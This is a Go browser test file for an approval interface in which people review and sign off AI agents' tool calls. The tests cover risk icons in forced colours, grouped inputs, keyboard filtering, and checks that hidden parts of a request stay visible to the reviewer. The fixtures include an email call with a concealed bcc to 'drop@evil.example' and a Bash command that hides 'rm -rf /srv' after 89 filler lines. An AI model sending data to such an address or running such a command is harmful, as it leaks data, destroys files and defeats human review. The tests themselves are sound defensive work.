package browser_test

import (
	"context"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"countersign/handlers/web/webtest"
)

// Where the system chooses the colours, a risk is told by a shape and not by a colour that is
// taken away; and what has little time left says so on its page in one word.
func TestInABrowserForcedColoursShowEachRisk(t *testing.T) {
	t.Parallel()
	w := webtest.New(t)
	w.ApplyPolicy(`{"rules":[{"name":"Money","tools":["pay"],"effect":"require","risk":"critical"},
		{"name":"Shell","tools":["Bash"],"effect":"require","risk":"high","timeout_minutes":5}]}`)
	a := w.Ask()
	w.Pays()
	p := openTab(w)
	p.do("have the system choose the colours", chromedp.Func(func(ctx context.Context, target *chromedp.Target) error {
		_, err := cdp.Call(ctx, target, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "forced-colors", Value: "active"}}})
		return err
	}))
	p.signIn()
	if got := p.value(`[...document.querySelectorAll(".row-risk .icon")].map((icon) => getComputedStyle(icon).stroke === getComputedStyle(document.body).color && icon.checkVisibility()).join()`); got != "true,true" {
		t.Errorf("the marks are drawn in the text's colour: %s", got)
	}
	if got := p.value(`String(new Set([...document.querySelectorAll(".row-risk .icon")].map((icon) => icon.innerHTML)).size)`); got != "2" {
		t.Errorf("two risks have %s shapes", got)
	}
	p.open(webtest.PageOf(a))
	p.becomes(`document.readyState === "complete"`)
	words := func(level, at string) string {
		return p.value(`(() => { const e = document.querySelector("` + at + `"); e.dataset.level = "` + level + `"; return getComputedStyle(e, "::after").content; })()`)
	}
	for _, level := range []string{"amber", "red"} {
		if got := words(level, ".deadline time"); got != `" · expires soon"` {
			t.Errorf("%s on the page says %s", level, got)
		}
	}
}

// Calls that differ in what no headline shows do not read as one call several times (I6).
func TestAGroupOfDifferentInputsSaysSoI6(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("a", 150)
	w := webtest.New(t)
	for _, middle := range []string{"x", "y", "z"} {
		w.Ask(webtest.ToolCall("Bash", `{"command":"ls `+long+middle+long+`"}`))
	}
	if page := w.SignIn(webtest.OwnerEmail).Get("/").Body; !strings.Contains(page, "row-group") || !strings.Contains(page, "inputs differ") {
		t.Error("three different commands read as one, three times")
	}
}

// rowShows reports whether all of a text in the first row's headline is in sight.
const rowShows = `((text) => {
  const line = document.querySelector("#inbox .row-summary");
  const walk = document.createTreeWalker(line, NodeFilter.SHOW_TEXT);
  for (let node = walk.nextNode(); node; node = walk.nextNode()) {
    const at = node.data.indexOf(text);
    if (at < 0) continue;
    const range = document.createRange();
    range.setStart(node, at);
    range.setEnd(node, at + text.length);
    const box = node.parentElement.getBoundingClientRect();
    return String([...range.getClientRects()].every((r) => r.left >= box.left - 1 && r.right <= box.right + 1));
  }
  return "false";
})`

// Who would get a message, and which rows a statement touches, is in sight in its row: a cut
// in the middle leaves out no recipient (I13).
func TestInABrowserARowShowsEveryRecipientThatItsHeadlineNamesI13(t *testing.T) {
	t.Parallel()
	w := webtest.New(t)
	w.Ask(webtest.ToolCall("email.send", `{"to":"anna.schmidt@nordlicht-hosting.example","bcc":"drop@evil.example","subject":"Invoice 2026-118 for November","body":"Hello"}`))
	p := openTab(w)
	p.signIn()
	for _, width := range []int64{1440, 1024, 390} {
		p.do("a screen", chromedp.EmulateViewport(width, 900))
		p.open("/")
		if got := p.value(rowShows + `("Email anna")`); got != "true" {
			t.Fatalf("at %d the beginning is in sight: %s", width, got)
		}
		if got := p.value(rowShows + `("bcc drop@evil.example")`); got != "true" {
			t.Errorf("at %d the second recipient is in sight: %s", width, got)
		}
	}
}

// What is printed says where it leaves something out.
func TestInABrowserAPrintedRequestSaysWhatItLeavesOutI13(t *testing.T) {
	t.Parallel()
	w := webtest.New(t)
	w.ApplyPolicy(`{"rules":[{"name":"Shell","tools":["Bash"],"effect":"require","risk":"high"}]}`)
	a := w.Ask(webtest.ToolCall("Bash", `{"command":"`+strings.Repeat(`echo step\n`, 89)+`rm -rf /srv"}`))
	p := openTab(w)
	p.signIn()
	p.open(webtest.PageOf(a))
	p.do("print", chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{Media: "print"})
		return err
	}))
	whole := p.value(`String([...document.querySelectorAll("#block-1 pre")].some((one) => one.checkVisibility() && one.textContent.includes("rm -rf /srv")))`)
	told := p.value(`String(/rest|more|left out|not shown/i.test(document.querySelector("#block-1").innerText))`)
	if whole != "true" && told != "true" {
		t.Error("the last lines of the command are not printed, and nothing says so")
	}
}

// The line of the list's head stays as it is when its filters are opened.
func TestInABrowserTheFiltersOpenWithoutMovingThePage(t *testing.T) {
	t.Parallel()
	w := webtest.New(t)
	w.Asks(3)
	p := openTab(w)
	p.signIn()
	p.do("a phone", chromedp.EmulateViewport(390, 900))
	p.open("/")
	top := func() int {
		n, _ := strconv.ParseFloat(p.value(`String(document.querySelector("#inbox .row, #inbox .row-group").getBoundingClientRect().top)`), 64)
		return int(n)
	}
	before := top()
	p.value(`[...document.querySelectorAll("main summary")].find((one) => one.textContent.trim().startsWith("Filter")).click()`)
	p.becomes(`[...document.querySelectorAll("main details[open] > summary")].some((one) => one.textContent.trim().startsWith("Filter"))`)
	if after := top(); after != before {
		t.Errorf("the list moves from %d to %d", before, after)
	}
}

// The order and the filters count as soon as they are chosen, by keyboard too, which stays where it is.
func TestInABrowserTheOrderIsChosenByKeyboard(t *testing.T) {
	t.Parallel()
	w := webtest.New(t)
	w.ApplyPolicy(`{"rules":[{"name":"Shell","tools":["Bash"],"effect":"require","risk":"low"},{"name":"Money","tools":["pay"],"effect":"require","risk":"high"}]}`)
	w.Ask(webtest.ToolCall("Bash", `{"command":"make"}`))
	w.Clock.Step(time.Second)
	w.Pays()
	p := openTab(w)
	p.do("size", chromedp.EmulateViewport(1440, 900))
	p.signIn()
	first := func(tool string) {
		p.becomes(fmt.Sprintf(`document.querySelector("#inbox .row .row-tool")?.textContent.trim() === %q`, tool))
	}
	first("Bash")
	p.becomes(`!document.querySelector("#filter-show").checkVisibility()`)
	p.value(`document.querySelector("#filter-order").focus()`)
	p.press(kb.ArrowDown)
	first("pay")
	p.becomes(`document.activeElement.id === "filter-order" && location.search === "?order=risk"`)
	p.press(kb.ArrowDown)
	first("Bash")
	p.becomes(`document.activeElement.id === "filter-order" && location.search === "?order=age"`)
	p.value(`document.querySelector(".filter-menu").open = true, document.querySelector("#filter-risk").focus()`)
	p.press(kb.ArrowDown, kb.ArrowDown)
	first("pay")
	p.becomes(`document.activeElement.id === "filter-risk" && document.querySelector(".filter-menu").open`)
	p.press(kb.Escape)
	p.becomes(`!document.querySelector(".filter-menu").open`)
	p.click(".whose a")
	p.becomes(`new URLSearchParams(location.search).get("whose") === "me" && document.querySelector(".whose [aria-current]").textContent === "For me"`)
	first("pay")
}
